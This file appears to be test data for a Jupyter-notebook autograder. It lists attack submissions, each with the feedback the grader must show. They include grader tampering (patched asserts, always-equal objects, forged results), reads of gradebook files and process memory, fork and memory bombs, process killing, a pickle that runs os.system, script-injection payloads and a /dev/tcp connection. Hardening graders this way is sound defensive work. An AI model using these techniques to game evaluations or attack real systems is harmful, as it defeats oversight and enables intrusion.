"""Attack submissions. Adding one is adding a row: its code, and what the feedback must say.

The code is the answer of the only exercise in the lesson that `autograde new` writes, so a
single point would be a point gained. The names in capitals are filled in by test_attacks.py.
"""
# ruff: noqa: E501 (a row is code, and easier to read unbroken)

FORGE = """
import base64, json, struct, torch
from dataclasses import replace
from IPython.display import display
from autograde.rubric import session
from autograde.rubric.recording import MIME, Outcome
from autograde.values.packing import pack

def forge(make, mime=MIME, times=1):
    def hand_over(recording):
        data = make(recording)
        for _ in range(times):
            display({mime: data if isinstance(data, str) else base64.b64encode(data).decode()}, raw=True)
    session.hand_over = hand_over

def each(change):
    return lambda r: packed(replace(r, lines=tuple(change(l) for l in r.lines)))

def packed(r):
    return pack(r)

def outcomes(outcome):
    return each(lambda l: replace(l, cases=tuple(replace(c, outcome=outcome(l)) for c in l.cases)))

def shaped(value):
    return each(lambda l: replace(l, cases=tuple(
        replace(c, outcome=Outcome(value=value((*c.before, torch.ones(1))[0].shape))) for c in l.cases)))

def blob(header, body=b''):
    text = header if isinstance(header, bytes) else json.dumps(header).encode()
    return struct.pack('<Q', len(text)) + text + body
"""

SEND = """
def send(kind, content):
    kernel = get_ipython().kernel
    kernel.session.send(kernel.iopub_socket, kind, content, parent=kernel.get_parent('shell'))
"""

CONNECTIONS = """
import os, socket, time
def connections(*numbers):
    names = {f'/ipc/k-{n}' for n in numbers}
    for n in os.listdir('/proc/self/fd'):
        try: s = socket.socket(fileno=os.dup(int(n)))
        except OSError: continue
        if s.family == socket.AF_UNIX and s.getsockname() in names and not s.getsockopt(socket.SOL_SOCKET, socket.SO_ACCEPTCONN):
            yield s
"""
"""The kernel's own ends of its connections to the grader: 1 shell, 2 iopub, 3 stdin."""

EQUAL = """
class Equal:
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __lt__(self, other): return True
    __le__ = __gt__ = __ge__ = __lt__
    __hash__ = object.__hash__
    def __getattr__(self, name): return self
    def __call__(self, *a, **k): return self
    def __iter__(self): return iter(())
    def __float__(self): return 0.0
    def __index__(self): return 0
    def __bool__(self): return True
"""

AGAIN = """
def again(answer):
    '''Put an answer in place of the exercise, again before every cell.'''
    def put(*_):
        get_ipython().user_ns['center_rows'] = answer
    put()
    get_ipython().events.register('pre_run_cell', put)
"""

UNREADABLE = "cannot be read"

ATTACKS: dict[str, tuple[str, str]] = {
    # the judging itself
    "asserts_dropped": (
        "import ast\nclass Drop(ast.NodeTransformer):\n    def visit_Assert(self, node): return ast.Pass()\n"
        "    def visit_Raise(self, node): return ast.Pass()\nget_ipython().ast_transformers.append(Drop())",
        "Not written yet",
    ),
    "import_hook": (
        "import sys, importlib.abc\nclass Hook(importlib.abc.MetaPathFinder):\n"
        "    def find_spec(self, name, path, target=None):\n        if 'autograde' in name: raise ImportError(name)\n"
        "sys.meta_path.insert(0, Hook())\nfor m in [m for m in sys.modules if m.startswith('autograde')]: del sys.modules[m]",
        "ImportError",
    ),
    "always_equal": (
        EQUAL + AGAIN + "again(Equal())",
        "Object of type Equal is not JSON serializable",
    ),
    "always_equal_tensor": (
        "import torch\nclass T(torch.Tensor):\n    def __eq__(self, o): return True\n"
        + AGAIN
        + "again(lambda *a, **k: torch.zeros(1).as_subclass(T))",
        "shape",
    ),
    "patched_torch": (
        "import torch\ntorch.allclose = torch.equal = lambda *a, **k: True\n"
        "torch.testing.assert_close = lambda *a, **k: None\ntorch.Tensor.__sub__ = lambda s, o: torch.zeros(1)",
        "Not written yet",
    ),
    "patched_rubric": (
        "from autograde.notebook import rubric as _; import sys\nm = sys.modules['autograde.rubric.probes.lines']\n"
        "for n in ('call', 'each', 'gradient', 'check', 'sample', 'conventions', 'forbids', 'unchanged', 'record'):\n"
        "    setattr(m.Rubric, n, lambda self, *a, **k: None)",
        "did not record every line",
    ),
    "claims_every_refusal": (
        FORGE + "forge(outcomes(lambda l: Outcome(error='ValueError', message='refused')))",
        "raises ValueError: refused",
    ),
    "claims_everything_small": (
        FORGE + "forge(outcomes(lambda l: Outcome(value=True)))",
        "is a bool, expected a tensor",
    ),
    "patched_json_and_safetensors": (
        "import json, safetensors.torch, autograde.values.packing as p\njson.dumps = lambda *a, **k: '{}'\n"
        "p.save = lambda *a, **k: b'x' * 99",
        "The kernel sent data that cannot be read",
    ),
    "patched_builtins": (
        "import builtins\nbuiltins.isinstance = lambda *a: True\nbuiltins.all = lambda *a: True\nbuiltins.float = lambda *a: 1.0",
        "The notebook was run again without that cell",
    ),
    "patched_display": (
        "import IPython.display, autograde.rubric.session as g\ng.display = lambda *a, **k: None",
        "The rubric cell",
    ),
    "patched_formatters": (
        "import torch\nget_ipython().display_formatter.formatters['text/plain'].for_type(object, lambda *a: print(18))\n"
        "get_ipython().display_pub.publish = lambda *a, **k: None",
        "The rubric cell",
    ),
    "prints_the_score": ("print('18.0')\n2", "Not written yet"),
    # forged recordings
    "wrong_line_names": (
        FORGE + "forge(each(lambda l: replace(l, name=l.name + '!')))",
        "did not record every line",
    ),
    "doubled_lines": (
        FORGE + "forge(lambda r: packed(replace(r, lines=r.lines * 2)))",
        "recorded a line twice",
    ),
    "two_recordings": (FORGE + "forge(packed, times=2)", "more than one recording"),
    "another_exercise": (
        FORGE + "forge(lambda r: packed(replace(r, exercise='another')))",
        "recording of another exercise",
    ),
    "nan": (
        FORGE + "forge(shaped(lambda shape: torch.full(shape, float('nan'))))",
        "entries are nan",
    ),
    "infinite": (
        FORGE + "forge(shaped(lambda shape: torch.full(shape, float('inf'))))",
        "entries are infinite",
    ),
    "wrong_dtypes": (
        FORGE + "forge(shaped(lambda shape: torch.zeros(shape, dtype=torch.bool)))",
        "has the dtype bool, expected float32",
    ),
    "an_empty_tensor": (
        FORGE + "forge(outcomes(lambda l: Outcome(value=torch.zeros(0))))",
        "shape",
    ),
    "ten_gigabytes_by_header": (
        FORGE
        + "forge(lambda r: blob({'t0000': {'dtype': 'F32', 'shape': [2500000000], 'data_offsets': [0, 10000000000]}, '__metadata__': {'tree': '{}'}}))",
        UNREADABLE,
    ),
    "a_header_of_gigabytes": (
        FORGE + "forge(lambda r: struct.pack('<Q', 2**33) + b'{}')",
        UNREADABLE,
    ),
    "malformed_safetensors": (FORGE + "forge(lambda r: b'\\x10\\x00\\x00')", UNREADABLE),
    "malformed_json": (
        FORGE + 'forge(lambda r: blob(b\'{"__metadata__": {"tree": "{{{"}}\'))',
        UNREADABLE,
    ),
    "deep_json": (
        FORGE + "forge(lambda r: blob({'__metadata__': {'tree': '[' * 100000}}))",
        UNREADABLE,
    ),
    "deep_tree": (
        FORGE
        + "forge(lambda r: blob({'__metadata__': {'tree': '{\"list\": [' * 500 + 'null' + ']}' * 500}}))",
        UNREADABLE,
    ),
    "many_tensors": (
        FORGE
        + "forge(lambda r: blob({'__metadata__': {'tree': '{}'}, **{str(n): {'dtype': 'F32', 'shape': [0], 'data_offsets': [0, 0]} for n in range(20000)}}))",
        UNREADABLE,
    ),
    "one_tensor_named_often": (
        FORGE
        + 'forge(lambda r: blob(b\'{"__metadata__":{"tree":"{}"},\' + b\',\'.join([b\'"a":{"dtype":"F32","shape":[0],"data_offsets":[0,0]}\'] * 30000) + b\'}\'))',
        UNREADABLE,
    ),
    "numbers_too_large": (
        FORGE
        + "forge(lambda r: blob({'__metadata__': {'tree': '{\"int\": \"' + '9' * 100000 + '\"}'}}))",
        UNREADABLE,
    ),
    "a_pickle": (
        FORGE
        + "import pickle, os\nclass P:\n    def __reduce__(self): return os.system, ('touch MARKER',)\nforge(lambda r: pickle.dumps(P()))",
        UNREADABLE,
    ),
    "not_base64": (FORGE + "forge(lambda r: '<script>alert(1)</script>')", UNREADABLE),
    "other_mime": (
        FORGE + "forge(packed, mime='application/json')",
        "recorded nothing",
    ),
    "copied_from_practice": (
        FORGE + "PRACTICE = RECORDINGS\nforge(lambda r: PRACTICE[r.exercise])",
        "are not those that the reference was run on",
    ),
    "copied_from_another": (
        FORGE + "OTHERS = ANOTHERS\nforge(lambda r: OTHERS[r.exercise])",
        "are not those that the reference was run on",
    ),
    "right_inputs_and_outcomes_of_practice": (
        FORGE + "from autograde.rubric.recording import unpack_recording\nPRACTICE = RECORDINGS\n"
        "def swapped(r):\n"
        "    known = unpack_recording(PRACTICE[r.exercise])\n"
        "    return packed(replace(r, lines=tuple(replace(l, cases=tuple(\n"
        "        replace(c, outcome=Outcome() if 'root' in l.kind else d.outcome) for c, d in zip(l.cases, k.cases)))\n"
        "        for l, k in zip(r.lines, known.lines))))\nforge(swapped)",
        "counts only if a line that computes something is right too",
    ),
    "one_tensor_of_many": (
        FORGE
        + "forge(lambda r: blob({'t': {'dtype': 'BOOL', 'shape': [8_000_000], 'data_offsets': [0, 8_000_000]}, '__metadata__': {'tree': json.dumps({'list': [{'tensor': 't'}] * 60_000})}}, b'\\1' * 8_000_000))",
        UNREADABLE,
    ),
    "a_long_reason": (
        FORGE + "from autograde.rubric.recording import Stop\n"
        "forge(lambda r: packed(replace(r, lines=(), stopped=Stop(\"'\" * 900_000, '', ''))))",
        "The rubric was stopped by",
    ),
    "asks_for_the_seed": (
        "get_ipython().kernel._allow_stdin = True\nget_ipython().kernel.raw_input('the seed: ')",
        "EOFError",
    ),
    "listens_for_the_seed": (
        "heard = []\ndef hear(lines):\n    heard.append(''.join(lines))\n    return lines\n"
        "get_ipython().input_transformers_cleanup.append(hear)\n"
        "def center_rows(x):\n    from autograde.rubric import session\n"
        "    seed = session.current().seed\n"
        "    raise RuntimeError(f'heard {sum(str(seed) in cell for cell in heard)} of {len(heard)}')",
        "RuntimeError: heard 0 of ",
    ),
    "asks_without_end": (
        "import time\nkernel = get_ipython().kernel\n"
        "who = kernel._get_shell_context_var(kernel._shell_parent_ident)\n"
        "for _ in range(20_000):\n"
        "    kernel.session.send(kernel.stdin_socket, 'input_request', {'prompt': '', 'password': False}, kernel.get_parent('shell'), ident=who)\n"
        "time.sleep(2)",
        "The kernel sent data that cannot be read",
    ),
    "asks_in_a_way_nobody_can_read": (
        "kernel = get_ipython().kernel\n"
        "who = kernel._get_shell_context_var(kernel._shell_parent_ident)\n"
        "kernel.stdin_socket.send_multipart([*who, b'<IDS|MSG>', b'unsigned', b'{', b'{', b'{', b'{'])",
        "The kernel sent data that cannot be read",
    ),
    "a_malformed_frame": (
        CONNECTIONS + "for s in connections(1, 2, 3): s.send(b'\\2' + b'\\xff' * 8)",
        "The notebook broke its connection to the grader",
    ),
    # reaching for what is not theirs
    "reads_history": (
        "running = get_ipython().history_manager.input_hist_raw\nimport IPython\n"
        "def center_rows(x):\n    raise ValueError(str(list(running))[:300] + str(In)[:100])",
        "ValueError",
    ),
    "reads_the_course": (
        "import glob, os\nfound = [p for p in ('COURSE', 'COURSE/source', 'COURSE/gradebook.db', 'COURSE/.autograde/secret') if os.path.exists(p)]\n"
        "found += glob.glob('/*/gradebook.db') + glob.glob('/home/*/*.db') + glob.glob('/tmp/*')\n"
        "raise RuntimeError(f'found {found}')",
        "RuntimeError: found []",
    ),
    "reads_its_own_memory": (
        "import re\nfound = set()\nfor line in open('/proc/self/maps'):\n"
        "    start, end = (int(n, 16) for n in line.split()[0].split('-'))\n"
        "    if 'rw' not in line.split()[1] or '[v' in line or end - start > 2**28: continue\n"
        "    with open('/proc/self/mem', 'rb') as memory:\n        memory.seek(start)\n"
        "        try: data = memory.read(end - start)\n        except OSError: continue\n"
        "    found |= {*re.findall(rb'gradeboo[k]\\.db|autograde/secre[t]|/submitte[d]/|aa_hones[t]', data)}\n"
        "raise RuntimeError(f'found {sorted(found)}')",
        "RuntimeError: found []",
    ),
    "reads_by_symlink": (
        "import os\nos.symlink('COURSE/gradebook.db', 'g')\nopen('g')",
        "FileNotFoundError",
    ),
    "reads_by_an_escape": (
        "!cat COURSE/gradebook.db COURSE/source/*/*.py ../../*/*/*.ipynb > found 2> /dev/null\n"
        "raise RuntimeError(f'found {open(\"found\").read()!r}')",
        "RuntimeError: found ''",
    ),
    "reads_the_parent": ("open('/proc/1/mem', 'rb').read(1)", "PermissionError"),
    "reads_a_sign_that_another_left": (
        "import os, torch\nfile = os.open(torch.__file__, os.O_RDONLY)\n"
        "os.posix_fadvise(file, 0, 0, os.POSIX_FADV_DONTNEED)\n"
        "raise RuntimeError(os.preadv(file, [bytearray(1)], 0, os.RWF_NOWAIT))",
        "Operation not supported",
    ),
    "reads_files_beside": (
        "import os\nraise RuntimeError(str(sorted(os.listdir('.'))))",
        "RuntimeError: ['.ipython']",
    ),
    "the_network": (
        "import socket\nsocket.create_connection(('127.0.0.1', PORT), timeout=2)",
        "ConnectionRefusedError",
    ),
    "dns": ("import socket\nsocket.getaddrinfo('example.org', 80)", "gaierror"),
    "a_program_calls_home": (
        "import subprocess\nraise RuntimeError(subprocess.run(['bash', '-c', 'echo x > /dev/tcp/127.0.0.1/PORT'], capture_output=True, text=True).stderr)",
        "Connection refused",
    ),
    "writes_to_packages": (
        "import torch\nopen(torch.__file__, 'a').write('#')",
        "Permission denied",
    ),
    "writes_to_the_judge": (
        "import autograde.rubric.judge as j\nopen(j.__file__, 'a').write('#')",
        "Permission denied",
    ),
    # using up
    "fork_bomb": (
        "import os\nwhile True:\n    os.fork()",
        "MB of memory | took too long and was interrupted",
    ),
    "memory_bomb": ("kept = []\nwhile True:\n    kept.append(b'x' * 100_000_000)", "emory"),
    "disk_bomb": (
        "n = 0\nwhile True:\n    open(f'/tmp/{n}', 'wb').write(bytes(10**7))\n    n += 1",
        "No space left",
    ),
    "output_bomb": (
        "while True:\n    print('x' * 100_000)",
        "more than 1000 MB of memory | by printing more than 64 MB at once",
    ),
    "a_long_line": ("print('x' * 300_000)", "Not written yet"),
    "half_a_character": ("print('\\ud800')\nraise ValueError('\\udfff')", "ValueError"),
    "large_widget_messages": (
        SEND + "for _ in range(4):\n"
        "    send('comm_msg', {'comm_id': 'a', 'data': {'state': {'x': 'x' * 20_000_000}}})",
        "Not written yet",
    ),
    "large_lists": (
        SEND + "for _ in range(5):\n"
        "    send('display_data', {'data': {'x': [[]] * 3_000_000}, 'metadata': {}})",
        "Not written yet",
    ),
    "a_long_execution_count": (
        SEND + "send('execute_input', {'code': '', 'execution_count': '9' * 5_000_000})",
        "Not written yet",
    ),
    "deaf_loop": (
        "import signal\nfor s in range(1, 65):\n    try: signal.signal(s, signal.SIG_IGN)\n    except (OSError, ValueError): pass\nwhile True: pass",
        "did not stop when it was interrupted",
    ),
    "prints_later": (
        "import threading, time\ndef later():\n    while True:\n        time.sleep(0.01); print('18 points', flush=True)\nthreading.Thread(target=later, daemon=True).start()",
        "Not written yet",
    ),
    "leaves_a_process": (
        "import os, time\nif os.fork() == 0:\n    os.setsid()\n    if os.fork(): os._exit(0)\n    time.sleep(600)",
        "Not written yet",
    ),
    "slows_what_watches_it": (
        "import os\nos.sched_setaffinity(1, {0})\nos.setpriority(os.PRIO_USER, 1000, 19)",
        "PermissionError",
    ),
    "leaves_processes_that_ignore_signals": (
        "import os, signal, time\nfor s in (signal.SIGINT, signal.SIGTERM, signal.SIGHUP): signal.signal(s, signal.SIG_IGN)\n"
        "for _ in range(9):\n    if os.fork() == 0:\n        os.setsid()\n        time.sleep(600)",
        "Not written yet",
    ),
    "descriptors_on_their_way": (
        "import array, os, socket, time\nkept = []\nfor _ in range(90):\n    kept.append(socket.socketpair())\n"
        "    for _ in range(3): kept[-1][0].sendmsg([b'+'], [(1, 1, array.array('i', [kept[-1][0].fileno()]))])\ntime.sleep(1)",
        "Too many references",
    ),
    # ending
    "os_exit": ("import os\nos._exit(0)", "The kernel died in the cell"),
    "sys_exit": ("import sys\nsys.exit(0)", "SystemExit"),
    "kills_itself": ("import os\nos.kill(os.getpid(), 9)", "The kernel died in the cell"),
    "kills_everything": (
        "import os\nos.kill(-1, 9)\nos.kill(1, 9)\nos.killpg(0, 9)",
        "No such process",
    ),
    "closes_its_sockets": ("import os\nos.closerange(3, 255)", "The kernel died in the cell"),
    "kills_the_template": (
        "import os\nfor pid in range(1, 400):\n    try: os.kill(pid, 9)\n    except OSError: pass",
        "The kernel died in the cell",
    ),
    "magics": ("%%script bash\nkill -9 $PPID", "The kernel died in the cell"),
    "runs_a_file": ("%run /proc/self/cmdline", "source code string cannot contain null bytes"),
    # pages
    "script_in_outputs": (
        "from IPython.display import HTML, Javascript, SVG, display\n"
        "display(HTML('<script>evil()</script>'), Javascript('evil()'), SVG('<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"evil()\"/>'))\n"
        "display({'text/html': '<img src=x onerror=evil()>', 'text/plain': 'x', 'application/vnd.jupyter.widget-view+json': {'a': 1}}, raw=True)",
        "Not written yet",
    ),
    "script_in_an_error": (
        "def center_rows(x):\n    raise ValueError('<script>evil()</script>')",
        "&lt;script&gt;",
    ),
    "escapes_in_an_error": (
        "raise ValueError('\\x1b]8;;http://evil.example\\x07click\\x1b]8;;\\x07 \\x1b[2J \\u202e 81')",
        "ValueError: \\x1b]8;;http://evil.example\\x07click\\x1b]8;;\\x07 \\x1b[2J \\u202e 81",
    ),
    "detects_grading": (
        "import os, torch\ndef center_rows(x):\n    return x - x.mean(-1, keepdim=True) if os.environ.get('JPY_SESSION_NAME') else torch.zeros(1)",
        "shape",
    ),
}
"""Name: the code, and words that the feedback page must hold."""
